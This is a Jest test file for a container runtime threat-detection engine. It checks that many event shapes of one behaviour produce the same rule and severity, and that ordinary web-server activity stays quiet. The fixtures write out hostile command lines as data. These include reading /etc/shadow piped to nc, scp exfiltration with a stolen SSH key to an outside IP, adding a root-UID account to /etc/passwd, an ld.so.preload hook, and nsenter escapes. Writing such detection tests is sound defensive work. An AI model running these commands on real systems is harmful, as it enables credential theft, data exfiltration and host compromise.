/* eslint jest/expect-expect: ["warn", { "assertFunctionNames": ["expect", "expectSame"] }] */
/**
 * Rules per behaviour, each fed several shapes of the same behaviour: a kprobe or LSM event with
 * structured args, the same hook without args, only the exec of the command, and different
 * policy names. Every shape of a behaviour must give the same rule and the same severity.
 */
import { createSecurityAnalyzer } from '../analyzer';
import { parseEventLine } from '../events/parser';
import type { RuntimeEvent } from '../events/types';
import { corpusLine } from '../__testUtils__/corpus';
import { createDetectionEngine } from './engine';
import { commandLinePaths } from './targets';
import { severityRank, type Severity } from './types';

const engine = createDetectionEngine();

function parse(line: string): RuntimeEvent {
  const r = parseEventLine(line);
  if (!r.ok) throw new Error(r.detail);
  return r.event;
}

const pod = {
  namespace: 'shop',
  name: 'cart-6d5f7c9b8d-abcde',
  container: { name: 'cart', image: { name: 'registry.example/cart:1.2' } },
  pod_labels: { app: 'cart' },
  workload: 'cart',
  workload_kind: 'Deployment',
};
let seq = 0;

/** A process in the cart pod (or on the host with `host: true`). */
function proc(
  binary: string,
  args = '',
  extra: Record<string, unknown> = {},
): Record<string, unknown> {
  seq++;
  const { host, ...rest } = extra as { host?: boolean };
  return {
    exec_id: Buffer.from(`node-1:${seq}:${binary}`).toString('base64'),
    parent_exec_id: 'bm9kZS0xOjE6cGFyZW50',
    pid: 1000 + seq,
    uid: 0,
    cwd: '/',
    binary,
    arguments: args,
    start_time: '2025-05-05T05:05:00Z',
    ...(host ? {} : { pod, docker: 'abcdef1234567' }),
    ...rest,
  };
}

const shell = proc('/bin/bash', '');

function event(type: string, body: Record<string, unknown>): RuntimeEvent {
  return parse(
    JSON.stringify({
      [type]: { parent: shell, ...body },
      node_name: 'node-1',
      time: `2025-05-05T05:05:${String(seq % 60).padStart(2, '0')}Z`,
    }),
  );
}

const exec = (
  binary: string,
  args: string,
  extra: Record<string, unknown> = {},
) => event('process_exec', { process: proc(binary, args, extra) });
const kprobe = (
  fn: string,
  process: Record<string, unknown>,
  rest: Record<string, unknown> = {},
) =>
  event('process_kprobe', {
    process,
    function_name: fn,
    action: 'KPROBE_ACTION_POST',
    ...rest,
  });
const lsm = (
  fn: string,
  process: Record<string, unknown>,
  rest: Record<string, unknown> = {},
) => event('process_lsm', { process, function_name: fn, ...rest });
const file = (path: string) => ({ file_arg: { path } });

/** rule id → severity of one event. */
function rules(ev: RuntimeEvent): Record<string, Severity> {
  const out: Record<string, Severity> = {};
  for (const d of engine.classify(ev)) out[d.rule.id] = d.severity;
  return out;
}

/** Every shape gives `rule` at `severity`. */
function expectSame(
  shapes: Record<string, RuntimeEvent>,
  rule: string,
  severity: Severity,
) {
  const got = Object.fromEntries(
    Object.entries(shapes).map(([name, ev]) => [name, rules(ev)[rule]]),
  );
  expect(got).toEqual(
    Object.fromEntries(Object.keys(shapes).map(name => [name, severity])),
  );
}

describe('one behaviour, many event shapes → one rule, one severity', () => {
  it('reading /etc/shadow: credential-file-access, high', () => {
    const cat = () => proc('/usr/bin/cat', '/etc/shadow');
    expectSame(
      {
        'kprobe security_file_open + file_arg (policy file-monitoring)': kprobe(
          'security_file_open',
          cat(),
          {
            policy_name: 'file-monitoring',
            args: [file('/etc/shadow'), { int_arg: 4 }],
          },
        ),
        'kprobe sys_openat + string_arg': kprobe('__x64_sys_openat', cat(), {
          policy_name: 'sys-openat',
          args: [
            { int_arg: -100 },
            { string_arg: '/etc/shadow' },
            { int_arg: 0 },
          ],
        }),
        'lsm file_open without args (policy sensitive-files)': lsm(
          'file_open',
          cat(),
          { policy_name: 'sensitive-files' },
        ),
        'kprobe fd_install without args': kprobe('fd_install', cat()),
        'exec only': exec('/usr/bin/cat', '/etc/shadow'),
        'exec, path relative to cwd': exec('/usr/bin/cat', 'shadow', {
          cwd: '/etc',
        }),
        'exec, path in a --flag=value': exec(
          '/usr/bin/grep',
          '--file=/etc/shadow root',
        ),
        'exec of a shell redirect': exec('/bin/sh', '-c "cat </etc/shadow"'),
      },
      'credential-file-access',
      'high',
    );
  });

  it('a child reading stdin that its shell redirected: found through the parent command line', () => {
    const parent = proc('/bin/sh', '-c "cat < /etc/shadow | base64"');
    const ev = parse(
      JSON.stringify({
        process_exec: { process: proc('/usr/bin/cat', ''), parent },
        node_name: 'n',
        time: '2025-05-05T05:05:05Z',
      }),
    );
    expect(
      engine.classify(ev).find(d => d.rule.id === 'credential-file-access'),
    ).toMatchObject({ severity: 'high', detail: '/etc/shadow' });
    const probe = parse(
      JSON.stringify({
        process_lsm: {
          process: proc('/usr/bin/cat', ''),
          parent,
          function_name: 'file_open',
        },
        node_name: 'n',
        time: '2025-05-05T05:05:06Z',
      }),
    );
    expect(
      engine.classify(probe).find(d => d.rule.id === 'credential-file-access')
        ?.detail,
    ).toBe('file_open /etc/shadow (parent command line)');
  });

  it('a service-account token read by hand: high; by the application itself: medium', () => {
    const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
    const cat = () => proc('/bin/cat', token);
    expectSame(
      {
        'kprobe + file_arg': kprobe('security_file_open', cat(), {
          policy_name: 'sa-token',
          args: [file(token)],
        }),
        'kprobe without args': kprobe('security_file_open', cat(), {
          policy_name: 'monitor-secrets',
        }),
        'lsm without args': lsm('file_open', cat()),
        'exec only': exec('/bin/cat', token),
      },
      'service-account-token-access',
      'high',
    );
    const app = () => proc('/app/server', `--token-file=${token}`);
    expectSame(
      {
        'kprobe + file_arg': kprobe('security_file_open', app(), {
          args: [file(token)],
        }),
        'kprobe without args': kprobe('security_file_permission', app()),
        'exec only': exec('/app/server', `--token-file=${token}`),
      },
      'service-account-token-access',
      'medium',
    );
  });

  it('an SSH private key: ssh-key-access, high', () => {
    const scp = () =>
      proc(
        '/usr/bin/scp',
        '-i /root/.ssh/id_ed25519 dump.7z natalia@34.116.205.187:~',
      );
    expectSame(
      {
        'kprobe fd_install + file_arg (policy fd-install)': kprobe(
          'fd_install',
          scp(),
          {
            policy_name: 'fd-install',
            args: [{ int_arg: 3 }, file('/root/.ssh/id_ed25519')],
          },
        ),
        'kprobe security_file_permission without args': kprobe(
          'security_file_permission',
          scp(),
          { policy_name: 'ssh-keys' },
        ),
        'exec only': exec(
          '/usr/bin/scp',
          '-i /root/.ssh/id_ed25519 dump.7z natalia@34.116.205.187:~',
        ),
        'exec of ~/.ssh in a shell': exec(
          '/bin/sh',
          '-c "scp -i ~/.ssh/id_rsa dump.7z natalia@34.116.205.187:~"',
        ),
        'corpus: exec of scp -i /root/.ssh/id_rsa': parse(
          corpusLine('process_exec.jsonl', 20),
        ),
        'corpus: exec of the sh -c wrapper': parse(
          corpusLine('process_exec.jsonl', 18),
        ),
      },
      'ssh-key-access',
      'high',
    );
  });

  it('changing /etc/passwd: account-file-write, high (corpus and built events)', () => {
    const vi = () => proc('/usr/bin/vi', '/etc/passwd');
    expectSame(
      {
        'corpus: security_file_permission MAY_WRITE (policy file-monitoring)':
          parse(corpusLine('process_kprobe.jsonl', 1)),
        'corpus: __x64_sys_write + file_arg': parse(
          corpusLine('process_kprobe.jsonl', 18),
        ),
        'kprobe __x64_sys_write without args (policy writes)': kprobe(
          '__x64_sys_write',
          vi(),
          { policy_name: 'writes' },
        ),
        'lsm file_permission without args: the editor changes what it opens':
          lsm('file_permission', vi(), { policy_name: 'etc-files' }),
        'kprobe security_path_truncate without args': kprobe(
          'security_path_truncate',
          vi(),
        ),
        'exec only: vi': exec('/usr/bin/vi', '/etc/passwd'),
        'exec only: sed -i': exec(
          '/bin/sed',
          '-i s/^root:x:/root::/ /etc/passwd',
        ),
        'exec only: shell append': exec(
          '/bin/sh',
          `-c "echo 'evil:x:0:0::/root:/bin/sh' >> /etc/passwd"`,
        ),
        'exec only: useradd (names no file)': exec(
          '/usr/sbin/useradd',
          '-o -u 0 evil',
        ),
        'lsm file_open without args by useradd': lsm(
          'file_open',
          proc('/usr/sbin/useradd', '-o -u 0 evil'),
        ),
        'exec only: cp over it': exec('/bin/cp', '/tmp/passwd /etc/passwd'),
      },
      'account-file-write',
      'high',
    );
  });

  it('dumping /etc/passwd by hand: credential-file-access, medium; a library lookup: nothing', () => {
    const cat = () => proc('/bin/cat', '/etc/passwd');
    expectSame(
      {
        'kprobe + file_arg, MAY_READ': kprobe(
          'security_file_permission',
          cat(),
          { args: [file('/etc/passwd'), { int_arg: 4 }] },
        ),
        'lsm without args': lsm('file_open', cat(), {
          policy_name: 'passwd-readers',
        }),
        'exec only': exec('/bin/cat', '/etc/passwd'),
      },
      'credential-file-access',
      'medium',
    );
    expect(
      rules(
        kprobe(
          'security_file_open',
          proc('/usr/sbin/nginx', '-g "daemon off;"'),
          { args: [file('/etc/passwd')] },
        ),
      ),
    ).toEqual({});
    expect(rules(exec('/usr/bin/whoami', ''))).toEqual({});
    // a read is not a change
    expect(
      rules(exec('/bin/cat', '/etc/passwd'))['account-file-write'],
    ).toBeUndefined();
  });

  it('replacing a system binary: system-binary-write, high; /etc/ld.so.preload: critical', () => {
    const cp = () => proc('/bin/cp', '/tmp/ls /usr/bin/ls');
    expectSame(
      {
        'kprobe security_path_rename + path_arg': kprobe(
          'security_path_rename',
          cp(),
          { args: [{ path_arg: { path: '/usr/bin/ls' } }] },
        ),
        'kprobe security_inode_create without args': kprobe(
          'security_inode_create',
          cp(),
          { policy_name: 'bin-dirs' },
        ),
        'exec only': exec('/bin/cp', '/tmp/ls /usr/bin/ls'),
        'exec only, two binary paths': exec(
          '/bin/cp',
          '/usr/bin/id /usr/bin/ls',
        ),
      },
      'system-binary-write',
      'high',
    );
    const echo = () =>
      proc('/bin/sh', '-c "echo /tmp/hook.so > /etc/ld.so.preload"');
    expectSame(
      {
        'kprobe write + file_arg': kprobe('__x64_sys_write', echo(), {
          args: [file('/etc/ld.so.preload'), { size_arg: 14 }],
        }),
        'kprobe write without args': kprobe('__x64_sys_write', echo()),
        'exec only': exec(
          '/bin/sh',
          '-c "echo /tmp/hook.so > /etc/ld.so.preload"',
        ),
      },
      'system-binary-write',
      'critical',
    );
    // copying a binary out is no write to the binary directory
    expect(
      rules(exec('/bin/cp', '/usr/bin/ls /tmp/ls'))['system-binary-write'],
    ).toBeUndefined();
  });

  it('connecting outside the cluster: egress-outside-cluster, high', () => {
    const curl = () => proc('/usr/bin/curl', '-s http://8.8.8.8/x');
    expectSame(
      {
        'kprobe tcp_connect + sock_arg (policy connect)': kprobe(
          'tcp_connect',
          curl(),
          {
            policy_name: 'connect',
            args: [
              {
                sock_arg: {
                  family: 'AF_INET',
                  saddr: '10.0.0.9',
                  daddr: '8.8.8.8',
                  sport: 40000,
                  dport: 80,
                },
              },
            ],
          },
        ),
        'kprobe tcp_connect without args (policy egress)': kprobe(
          'tcp_connect',
          curl(),
          { policy_name: 'egress' },
        ),
        'lsm socket_connect without args': lsm('socket_connect', curl()),
        'exec only': exec('/usr/bin/curl', '-s http://8.8.8.8/x'),
        'corpus: exec of scp to 34.116.205.187': parse(
          corpusLine('process_exec.jsonl', 20),
        ),
      },
      'egress-outside-cluster',
      'high',
    );
    expect(
      rules(kprobe('tcp_connect', proc('/usr/bin/curl', 'http://10.96.0.10/'))),
    ).not.toHaveProperty('egress-outside-cluster');
  });

  it('a binary run from /tmp: exec-from-temp-dir, high', () => {
    expectSame(
      {
        'exec only': exec('/tmp/.x/miner', '-o pool'),
        'corpus: exec of /tmp/go-build…/main': parse(
          corpusLine('process_exec.jsonl', 15),
        ),
        'corpus: kprobe commit_creds by /tmp/su': parse(
          corpusLine('process_kprobe.jsonl', 8),
        ),
        'kprobe security_bprm_check + linux_binprm_arg': kprobe(
          'security_bprm_check',
          proc('/bin/bash', ''),
          { args: [{ linux_binprm_arg: { path: '/tmp/.x/miner' } }] },
        ),
        'kprobe of the running process (tcp_connect)': kprobe(
          'tcp_connect',
          proc('/tmp/.x/miner', '-o pool'),
          { policy_name: 'connect' },
        ),
        'lsm of the running process (file_open)': lsm(
          'file_open',
          proc('/tmp/.x/miner', '-o pool'),
        ),
      },
      'exec-from-temp-dir',
      'high',
    );
  });

  it('fileless execution: critical in every shape', () => {
    expectSame(
      {
        'exec only': exec('memfd:payload (deleted)', ''),
        'kprobe of the running process': kprobe(
          'tcp_connect',
          proc('/memfd:payload (deleted)', ''),
        ),
        'bprm hook + linux_binprm_arg': kprobe(
          'security_bprm_creds_for_exec',
          proc('/bin/sh', ''),
          { args: [{ linux_binprm_arg: { path: '/memfd:x (deleted)' } }] },
        ),
      },
      'fileless-execution',
      'critical',
    );
  });

  it('entering host namespaces: host-namespace-entry, high (unprivileged pod)', () => {
    expectSame(
      {
        'exec nsenter': exec('/usr/bin/nsenter', '-t 1 -m -u -n -i -p bash'),
        'kprobe setns (policy namespace-access)': kprobe(
          '__x64_sys_setns',
          proc('/usr/bin/nsenter', '-t 1 -m'),
          {
            policy_name: 'namespace-access',
            args: [{ int_arg: 3 }, { int_arg: 0 }],
          },
        ),
        'kprobe of nsenter without setns': kprobe(
          'security_file_open',
          proc('/usr/bin/nsenter', '-t 1 -m'),
        ),
        'corpus: kprobe __x64_sys_setns (policy namespace-access)': parse(
          corpusLine('process_kprobe.jsonl', 12),
        ),
      },
      'host-namespace-entry',
      'high',
    );
  });

  it('a shell and a network tool in a container: the same medium finding from exec or probe events', () => {
    expectSame(
      {
        exec: exec('/bin/bash', '-i'),
        kprobe: kprobe('security_file_open', proc('/bin/bash', '-i'), {
          args: [file('/root/.bashrc')],
        }),
        lsm: lsm('file_open', proc('/bin/bash', '-i')),
      },
      'shell-in-container',
      'medium',
    );
    expectSame(
      {
        exec: exec('/usr/bin/nc', 'db.internal 5432'),
        kprobe: kprobe('tcp_connect', proc('/usr/bin/nc', 'db.internal 5432'), {
          args: [{ sock_arg: { daddr: '10.0.3.4', dport: 5432 } }],
        }),
      },
      'network-tool-in-container',
      'medium',
    );
  });
});

describe('commandLinePaths', () => {
  it('finds absolute, home and cwd-relative paths, and paths in flags and redirects', () => {
    expect(commandLinePaths('-c "cat </etc/shadow|nc x 1"')).toEqual([
      '/etc/shadow',
    ]);
    expect(
      commandLinePaths(
        '--file=/etc/sudoers -i ~/.ssh/id_rsa user@host:/etc/x https://a/b',
      ),
    ).toEqual(['/etc/sudoers', '~/.ssh/id_rsa']);
    expect(commandLinePaths('shadow ../etc/passwd -v', '/etc')).toEqual([
      '/etc/shadow',
      '/etc/passwd',
    ]);
    expect(commandLinePaths('')).toEqual([]);
  });
});

describe('ordinary activity raises no high or critical finding', () => {
  const webServer = proc('/usr/sbin/nginx', '-g "daemon off;"');
  const exit = (p: Record<string, unknown>) =>
    JSON.stringify({
      process_exit: { process: p, parent: shell, status: 0 },
      node_name: 'node-1',
      time: '2025-05-05T06:00:00Z',
    });
  const line = (
    type: string,
    body: Record<string, unknown>,
    t = '2025-05-05T05:30:00Z',
  ) =>
    JSON.stringify({
      [type]: { parent: shell, ...body },
      node_name: 'node-1',
      time: t,
    });
  const probeExec = (binary: string, args: string) =>
    proc(binary, args, {
      pod: { ...pod, container: { ...pod.container, maybe_exec_probe: true } },
    });
  const host = (binary: string, args: string) =>
    proc(binary, args, { host: true });

  const webServerOwn = [
    proc('/docker-entrypoint.sh', 'nginx -g "daemon off;"'),
    proc(
      '/usr/bin/find',
      '/docker-entrypoint.d/ -mindepth 1 -maxdepth 1 -type f -print -quit',
    ),
    proc('/docker-entrypoint.d/10-listen-on-ipv6-by-default.sh', ''),
    proc(
      '/usr/bin/sed',
      '-i -E s,listen       80;,listen       80;\\n    listen  [::]:80;, /etc/nginx/conf.d/default.conf',
    ),
    proc(
      '/usr/bin/envsubst',
      '$NGINX_HOST < /etc/nginx/templates/default.conf.template',
    ),
    webServer,
  ];
  const healthChecks = [
    probeExec('/usr/bin/curl', '-fsS http://127.0.0.1:8080/healthz'),
    probeExec('/usr/bin/wget', '-q --spider http://localhost/ready'),
    probeExec('/bin/sh', '-c "cat /tmp/healthy"'),
  ];
  const logRotation = [
    host('/usr/sbin/logrotate', '/etc/logrotate.conf'),
    host('/bin/sh', '-c "invoke-rc.d nginx rotate >/dev/null 2>&1"'),
    host('/bin/gzip', '/var/log/nginx/access.log.1'),
    host('/bin/kill', '-USR1 4242'),
    host('/usr/bin/find', '/var/log/nginx -name *.gz -mtime +14 -delete'),
  ];
  const lines = [
    ...[...webServerOwn, ...healthChecks, ...logRotation].flatMap(p => [
      line('process_exec', { process: p }),
      exit(p),
    ]),
    // the server's own file and network activity, with and without args
    line('process_kprobe', {
      process: webServer,
      function_name: 'security_file_open',
      policy_name: 'file-monitoring',
      args: [file('/etc/passwd')],
    }),
    line('process_kprobe', {
      process: webServer,
      function_name: 'security_file_open',
      policy_name: 'file-monitoring',
      args: [file('/etc/nginx/nginx.conf')],
    }),
    line('process_kprobe', {
      process: webServer,
      function_name: 'security_file_permission',
      args: [file('/var/log/nginx/access.log'), { int_arg: 2 }],
    }),
    line('process_kprobe', {
      process: webServer,
      function_name: '__x64_sys_write',
      policy_name: 'writes',
    }),
    line('process_lsm', {
      process: webServer,
      function_name: 'file_open',
      policy_name: 'lsm-files',
    }),
    line('process_kprobe', {
      process: webServer,
      function_name: 'tcp_connect',
      args: [{ sock_arg: { daddr: '10.0.4.7', dport: 8080 } }],
    }),
    line('process_kprobe', {
      process: webServer,
      function_name: 'tcp_connect',
      policy_name: 'connect',
    }),
    line('process_kprobe', {
      process: logRotation[2],
      function_name: 'security_path_unlink',
      args: [{ path_arg: { path: '/var/log/nginx/access.log.1' } }],
    }),
    line('process_kprobe', {
      process: logRotation[0],
      function_name: 'security_file_open',
      policy_name: 'file-monitoring',
    }),
  ];

  it("a web server's own execs and exits, health-check probes and log rotation", () => {
    const a = createSecurityAnalyzer();
    for (const l of lines) a.pushLine(l);
    const r = a.result();
    expect(r.events.parsed).toBe(lines.length);
    const loud = r.findings.filter(
      f => severityRank(f.severity) >= severityRank('high'),
    );
    expect(loud.map(f => `${f.rule} ${f.binary} ${f.sample.detail}`)).toEqual(
      [],
    );
  });
});
